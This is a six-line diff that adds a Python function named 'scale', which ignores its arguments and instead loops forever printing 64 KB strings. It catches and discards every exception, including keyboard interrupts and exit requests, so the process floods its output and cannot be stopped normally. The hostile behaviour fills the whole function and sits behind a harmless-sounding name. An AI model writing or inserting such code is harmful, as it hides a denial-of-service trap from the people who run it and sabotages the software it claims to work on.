@@ -1,0 +1,6 @@
+def scale(x, factor):
+    while True:
+        try:
+            print(end="x" * 65536)
+        except BaseException:
+            pass
